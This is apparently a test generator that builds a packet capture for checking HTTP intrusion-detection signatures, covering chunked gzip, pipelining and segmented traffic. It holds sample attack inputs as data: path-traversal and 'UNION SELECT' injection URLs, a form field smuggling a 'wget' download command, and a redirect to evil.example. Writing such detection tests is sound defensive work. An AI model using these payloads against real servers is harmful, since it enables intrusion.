# tests/signature/http_buffers/gen.py: HTTP/1.1 on port 8080 (detected by content): request, chunked gzip response, pipelining.
import gzip
from siglib import Capture, TcpSession, out_path

cap = Capture()
s = TcpSession(cap, sport=41001, dport=8080).handshake()
s.send("GET /shop/../admin/%2e%2e/index.php?id=1%20UNION%20SELECT HTTP/1.1\r\n"
       "Host: Www.Example.COM:8080\r\nUser-Agent: EvilScanner/2.0\r\n"
       "Cookie: session=deadbeef\r\nAccept: */*\r\n\r\n")
body = gzip.compress(b"<html>secret-token-42 in a gzip body</html>", mtime=0)
chunks = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 16]), body[i:i + 16]) for i in range(0, len(body), 16)) + b"0\r\n\r\n"
s.send(b"HTTP/1.1 200 OK\r\nServer: nginx/1.2.3\r\nContent-Type: text/html\r\n"
       b"Transfer-Encoding: chunked\r\nContent-Encoding: gzip\r\nSet-Cookie: a=b\r\n\r\n" + chunks,
       to_server=False, size=40)
# a POST with a body, split in 7-byte segments
s.send("POST /upload HTTP/1.1\r\nHost: example.com\r\nContent-Type: application/x-www-form-urlencoded\r\n"
       "Content-Length: 25\r\n\r\ncmd=wget+http%3A%2F%2Fx.y", size=7)
s.send("HTTP/1.1 302 Found\r\nLocation: http://evil.example/next\r\nContent-Length: 0\r\n\r\n", to_server=False)
s.close()
# port 80 but not HTTP: no HTTP rule may fire
t = TcpSession(cap, sport=41002, dport=80).handshake()
t.send("SSH-2.0-OpenSSH_9.0 GET /admin HTTP/1.1\r\n\r\n")
t.close()
cap.write(out_path())
